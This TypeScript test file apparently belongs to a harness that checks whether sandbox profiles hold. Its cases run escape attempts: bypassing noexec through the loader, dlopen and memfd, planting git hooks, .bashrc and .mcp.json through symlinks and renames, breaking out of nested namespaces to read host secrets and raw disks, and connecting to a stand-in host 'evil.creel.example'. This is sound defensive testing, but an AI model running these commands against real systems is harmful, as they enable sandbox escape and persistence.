/** Threat: a stricter kind of sandbox is only strict in its name. */
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { SANDBOX_WORK } from "@creel/sandbox";
import { groupOf, node, sh } from "../attack.ts";
import { openSandbox, own } from "../contenders/creel.ts";
import type { Case } from "../model.ts";
import { BEGAN } from "../stage.ts";
import { all, keptSecret, neverPrints, prints, refused } from "../witness.ts";

const attack = groupOf("profiles", ["profiles"]);
const noexec = { promise: "noexec", run: own({ noexec: true }), expect: neverPrints(/RAN/) };
const PROTECTED = [".git/hooks", ".git/config", ".mcp.json", ".bashrc", ".vscode"];
const protect = { promise: "protected-names", run: own({ protect: PROTECTED }), expect: neverPrints(/WROTE/) };
/** The script names each place it managed to write. */
const tries = (...lines: string[]) =>
  sh(
    `cd "$WORK"\n${lines.map((line) => `( ${line} ) 2>/dev/null && echo "WROTE by ${line.replaceAll('"', "'").replaceAll("$", "")}"`).join("\n")}\ntrue`,
  );

const exec: Case[] = [
  attack("prof-noexec-run", "runs a program that it copied into its workspace, home or temporary space", {
    ...noexec,
    program: sh(
      'for d in "$WORK" /tmp /sandbox /dev/shm /var/tmp; do cp /usr/bin/env "$d/p" && "$d/p" true && echo RAN $d; done; true',
    ),
  }),
  attack("prof-noexec-loader", "starts it by the loader", {
    ...noexec,
    program: sh(
      'cp /usr/bin/env "$WORK/p"; for l in /lib64/ld-linux*.so.2 /lib/ld-linux*.so.1; do [ -e "$l" ] && "$l" "$WORK/p" true && echo RAN; done; true',
    ),
  }),
  attack("prof-noexec-preload", "loads it as a library", {
    ...noexec,
    program: node(
      `fs.copyFileSync(process.env.TOOLS + "/preload.so", process.env.WORK + "/p.node"); try { process.dlopen({ exports: {} }, process.env.WORK + "/p.node"); say("RAN"); } catch (e) { say(/register|No such|symbol/.test(e.message) && !/map segment|Operation not permitted|cannot/.test(e.message) ? "RAN " + e.message : e.message); }`,
    ),
  }),
  attack("prof-noexec-memfd", "runs it from memory", {
    ...noexec,
    program: sh('"$TOOLS/calls" memfd_exec x 1 "$TOOLS/trusted" && echo "tried"'),
    expect: {
      says: "the program in memory does not start",
      check: ({ out }) =>
        /^(2|0)$/m.test(out.replace(/\[host\].*/s, "")) && !/^(13|1)$/m.test(out)
          ? `memfd ran: ${out.slice(0, 60)}`
          : null,
    },
  }),
  attack("prof-noexec-remount", "mounts its workspace anew without the mark", {
    ...noexec,
    program: sh(
      'mount -o remount,exec "$WORK" 2>/dev/null; mount --bind "$WORK" /tmp 2>/dev/null; cp /usr/bin/env "$WORK/p"; "$WORK/p" true && echo RAN; true',
    ),
  }),
  attack("prof-noexec-honest", "control: installed programs run, and scripts by their interpreter", {
    promise: "honest-work",
    control: true,
    run: own({ noexec: true }),
    program: sh('echo "echo SCRIPT" > "$WORK/s.sh"; sh "$WORK/s.sh"; env true && echo INSTALLED'),
    expect: prints(/SCRIPT\nINSTALLED/),
  }),
];

const names: Case[] = [
  attack("prof-protect-write", "writes a hook that the host's own git will run", {
    ...protect,
    program: tries(
      "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
      "echo x > .mcp.json",
      "echo x >> .bashrc",
      "mkdir .vscode && echo x > .vscode/tasks.json",
    ),
  }),
  attack("prof-protect-rename", "renames a folder that it prepared onto the protected name", {
    ...protect,
    program: tries(
      "mkdir -p a/hooks && echo x > a/hooks/pre-commit && mv -T a/hooks .git/hooks",
      "mkdir -p b/.git && echo x > b/.git/config && mv -T b/.git .git",
      "echo x > c && mv c .mcp.json",
      "mv .git g2 && mkdir .git && echo x > .git/config",
    ),
  }),
  attack("prof-protect-link", "puts links in the protected names' places", {
    ...protect,
    program: tries(
      "ln -s /tmp .vscode",
      "ln -sfn /tmp/hooks .git/hooks",
      "echo x > d; ln d .mcp.json",
      "ln -sf /tmp/rc .bashrc",
    ),
  }),
  attack("prof-protect-delete", "deletes what is protected to make it anew", {
    ...protect,
    program: tries(
      "rm -rf .git && [ ! -e .git/config ]",
      "rm -f .mcp.json .bashrc && [ ! -e .bashrc ] && echo x > .bashrc",
      "rmdir .vscode && [ ! -e .vscode ]",
    ),
  }),
  attack("prof-protect-case", "uses other spellings of the names", {
    ...protect,
    program: tries("echo x > ././/.mcp.json", "echo x > sub/../.mcp.json", 'echo x > "$PWD/.bashrc"'),
  }),
  attack("prof-protect-existing", "changes a file that stood there before, and its folder", {
    promise: "protected-names",
    run: async (stage, test) => {
      const sandbox = await openSandboxWith(stage, (work) => {
        mkdirSync(join(work, ".git/hooks"), { recursive: true });
        writeFileSync(join(work, ".git/config"), "mine\n");
        writeFileSync(join(work, ".mcp.json"), "{}\n");
        for (const path of [".git", ".git/hooks", ".git/config", ".mcp.json"]) chmodSync(join(work, path), 0o777);
      });
      try {
        return await sandbox.run(test);
      } finally {
        await sandbox.end();
      }
    },
    program: tries(
      "echo x >> .git/config",
      "echo x > .git/hooks/post-checkout",
      "echo x > .mcp.json",
      "mv .git/hooks .git/old",
      "mv .git old",
      "truncate -s 0 .git/config",
      "cp -r .git new && rm -rf .git",
      "chmod 000 .git/config",
    ),
    expect: neverPrints(/WROTE/),
  }),
  attack("prof-protect-honest", "control: other names of the workspace can be written", {
    promise: "honest-work",
    control: true,
    run: own({ protect: PROTECTED }),
    program: sh('cd "$WORK"; echo x > code.ts && mkdir -p src && echo y > src/a && echo DONE'),
    expect: prints(/DONE/),
  }),
];

const roots: Case[] = [
  attack("prof-readonly", "writes into a workspace that is mounted read-only", {
    promise: "files-write",
    run: async (stage, test) => {
      const work = stage.workspace(`ro-${Date.now()}`);
      const sandbox = await openSandbox(stage, { mounts: [{ source: work, target: SANDBOX_WORK, mode: "ro" }] });
      try {
        return await sandbox.run(test);
      } finally {
        await sandbox.end();
      }
    },
    program: tries("echo x > a", "mkdir b", "ln -s a c", "chmod 777 .", "touch ."),
    expect: neverPrints(/WROTE/),
  }),
  attack("prof-landlock", "goes beyond the paths that the policy names", {
    promise: "files-read",
    run: own({
      readOnly: ["/usr", "/bin", "/lib", "/lib64", "/opt"].filter((path) => path !== "/none"),
      readWrite: ["/tmp"],
    }),
    program: sh(
      "cat /etc/ssl/openssl.cnf /etc/os-release >/dev/null 2>&1 && echo READ; (echo x > /sandbox/x) 2>/dev/null && echo WROTE; (echo x > /dev/shm/x && mv /dev/shm/x /tmp/x2); echo x > /tmp/x && echo FINE",
    ),
    expect: all(prints(/FINE/), neverPrints(/READ|WROTE/)),
  }),
  attack("prof-hard", "a policy demands a path that is not there, and strictness", {
    promise: "fail-closed",
    program: sh("true"),
    run: async (stage) => {
      const answer = await openSandbox(stage, {
        readOnly: ["/usr", "/no/such/path"],
        landlock: "hard_requirement",
      }).then(
        async (sandbox) => {
          await sandbox.end();
          return "STARTED";
        },
        (error: Error) => `refused: ${error.message}`,
      );
      return { code: 0, out: `${BEGAN}\n${answer}` };
    },
    expect: prints(/refused: .*no\/such\/path/),
  }),
  attack("prof-planted-mount", "plants a link in its home so that the next start mounts over trusted programs", {
    promise: "fail-closed",
    program: sh("true"),
    run: async (stage) => {
      const home = stage.workspace(`home-${Date.now()}`);
      symlinkSync("/usr/bin", join(home, "work"));
      const answer = await openSandbox(stage, {
        mounts: [
          { source: home, target: "/sandbox", mode: "rw" },
          { source: stage.workspace(`w-${Date.now()}`), target: SANDBOX_WORK, mode: "rw" },
        ],
      }).then(
        async (sandbox) => {
          await sandbox.end();
          return "STARTED";
        },
        (error: Error) => `refused: ${error.message}`,
      );
      return { code: 0, out: `${BEGAN}\n${answer}` };
    },
    expect: prints(/refused/),
  }),
  attack("prof-generated-file", "replaces a generated file through its own writable home", {
    promise: "programs-unwritable",
    run: (stage, test) => {
      const home = stage.workspace(`gen-${Date.now()}`);
      return own({
        mounts: [
          { source: home, target: "/sandbox", mode: "rw" },
          { source: stage.workspace(`genw-${Date.now()}`), target: SANDBOX_WORK, mode: "rw" },
        ],
        files: [{ path: "/sandbox/settings.json", content: "{}\n" }],
      })(stage, test);
    },
    program: tries(
      "echo x > /sandbox/settings.json",
      "rm -f /sandbox/settings.json && [ ! -e /sandbox/settings.json ]",
      "mv /sandbox/settings.json /sandbox/s2",
      "cp -r /sandbox /tmp/s && mv /sandbox /tmp/old",
      "ln -sf /tmp/x /sandbox/settings.json",
    ),
    expect: neverPrints(/WROTE/),
  }),
  attack("prof-nested", "uses the namespaces that it was granted to look for the host", {
    promise: "nested",
    run: own({ nestedUserns: true }),
    program: sh(
      'unshare -Urmpf --mount-proc sh -c \'id -u; mkdir -p /tmp/m; mount -t tmpfs x /tmp/m; cat "$HOST_DIR/secret"; umount -l /proc; umount -l /usr; umount -l /; ls /proc/1/root/; mount -o remount,rw /usr && (: > /usr/planted) && echo WROTE; cat "$HOST_DIR/secret"; mknod /tmp/m/sda b 8 0 && head -c 1 /tmp/m/sda && echo DISK\'; "$TOOLS/calls" signal_pid "$VICTIM_PID" 9; unshare -Urn sh -c \'"$TOOLS/calls" connect evil.creel.example 443 x\'',
    ),
    expect: all(keptSecret, neverPrints(/WROTE|DISK/)),
  }),
  attack("prof-nested-off", "asks for namespaces where the profile does not grant them", {
    promise: "kernel-surface",
    run: own({}),
    program: sh('"$TOOLS/attacks" unshare_user; "$TOOLS/attacks" clone_user'),
    expect: refused,
  }),
  attack("prof-devices-none", "looks for graphics and other devices where no policy grants them", {
    promise: "devices",
    program: sh(
      "ls /dev/nvidia* /dev/dri /dev/kfd /dev/video* /dev/snd /dev/input /dev/bus 2>/dev/null && echo FOUND; ls /dev; true",
    ),
    expect: neverPrints(/FOUND|sda|mem\b|kmsg/),
  }),
  attack("prof-devices-forbidden", "a policy asks for the machine's memory as a device", {
    promise: "devices",
    program: sh("true"),
    run: async (stage) => {
      const answers: string[] = [];
      for (const device of [
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/../etc/shadow",
        "/dev/net/tun",
        "/dev/null/../mem",
        "/etc/passwd",
      ])
        answers.push(
          await openSandbox(stage, { devices: [device] }).then(
            async (sandbox) => {
              await sandbox.end();
              return `STARTED with ${device}`;
            },
            () => "refused",
          ),
        );
      return { code: 0, out: `${BEGAN}\n${answers.join("\n")}` };
    },
    expect: all(neverPrints(/STARTED/), prints(/refused/)),
  }),
  attack("prof-device-write", "writes the devices that everybody has, as if they were files", {
    promise: "devices",
    program: node(
      `for (const d of ["null", "zero", "full", "random", "urandom", "tty"]) try { fs.renameSync("/dev/" + d, "/dev/x"); say("WROTE"); } catch (e) { say(e.code); } try { fs.writeFileSync("/dev/planted", "x"); say("WROTE"); } catch (e) { say(e.code); }`,
    ),
    expect: neverPrints(/WROTE/),
  }),
];

const openSandboxWith = async (stage: Parameters<typeof openSandbox>[0], prepare: (work: string) => void) => {
  const work = stage.workspace(`prepared-${Date.now()}`);
  prepare(work);
  return openSandbox(stage, { mounts: [{ source: work, target: SANDBOX_WORK, mode: "rw" }], protect: PROTECTED });
};

export const profiles: Case[] = [...exec, ...names, ...roots];
